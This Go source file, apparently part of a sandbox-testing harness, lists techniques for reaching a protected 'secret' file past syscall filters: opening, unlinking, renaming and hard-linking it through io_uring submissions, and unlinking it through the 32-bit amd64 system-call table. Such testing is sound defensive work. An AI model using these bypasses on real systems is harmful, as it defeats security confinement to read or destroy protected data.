//go:build linux

package bypass

import (
	"fmt"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Numbers of linux/io_uring.h, for files.
const (
	ringOpenat   = 18
	ringRenameat = 35
	ringUnlinkat = 36
	ringLinkat   = 39

	ringAsync = 1 << 4 // IOSQE_ASYNC: a worker of the kernel does it
)

// atHere is AT_FDCWD as a descriptor and as a number without a sign.
const (
	atHere       = int32(unix.AT_FDCWD)
	atHereNumber = uint32(1<<32 + unix.AT_FDCWD)
)

// fileRingTechniques have the kernel do it without a system call for it, or with one of another machine.
func fileRingTechniques() []technique {
	open := func(flags uint32, how uint8) func(*Env) error {
		return func(e *Env) error { return openByRing(e, flags, how) }
	}
	return []technique{
		{name: "io_uring open", attempt: open(0, 0)},
		{name: "io_uring open by a worker", attempt: open(0, ringAsync)},
		{name: "io_uring open by the polling thread", attempt: open(ringPoll, 0)},
		{name: "io_uring unlink", attempt: byRing(func(e *Env, path func(string) uint64) submission {
			return submission{opcode: ringUnlinkat, fd: atHere, address: path(e.Secret)}
		}), effect: changed},
		{name: "io_uring rename", attempt: byRing(func(e *Env, path func(string) uint64) submission {
			return submission{opcode: ringRenameat, fd: atHere, address: path(e.Secret), offset: path(e.work("moved")), length: atHereNumber}
		}), effect: changed},
		{name: "io_uring hard link", attempt: byRing(func(e *Env, path func(string) uint64) submission {
			return submission{opcode: ringLinkat, fd: atHere, address: path(e.Secret), offset: path(e.work("link")), length: atHereNumber}
		}), effect: stealLink},
		{name: "32-bit system call", attempt: unlinkAs32Bit, effect: changed},
	}
}

// openByRing opens the secret for reading.
func openByRing(e *Env, flags uint32, how uint8) error {
	return withRing(flags, func(r *ring, pin *runtime.Pinner) error {
		fd, err := r.do(submission{opcode: ringOpenat, flags: how, fd: atHere, address: pinned(pin, append([]byte(e.Secret), 0))})
		if err != nil {
			return err
		}
		return stealFD(e, fd)
	})
}

// byRing does one thing that takes paths.
func byRing(what func(e *Env, path func(string) uint64) submission) func(*Env) error {
	return func(e *Env) error {
		return withRing(0, func(r *ring, pin *runtime.Pinner) error {
			_, err := r.do(what(e, func(path string) uint64 { return pinned(pin, append([]byte(path), 0)) }))
			return err
		})
	}
}

// unlinkAs32Bit removes the secret by the table of calls that 32-bit programs use.
func unlinkAs32Bit(e *Env) error {
	if runtime.GOARCH != "amd64" {
		return lacks("the code is written for amd64 only")
	}
	path, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_32BIT)
	if err != nil {
		return fmt.Errorf("mmap: %w", err)
	}
	copy(path, e.Secret)
	return call32(10, int(uintptr(unsafe.Pointer(&path[0]))))
}
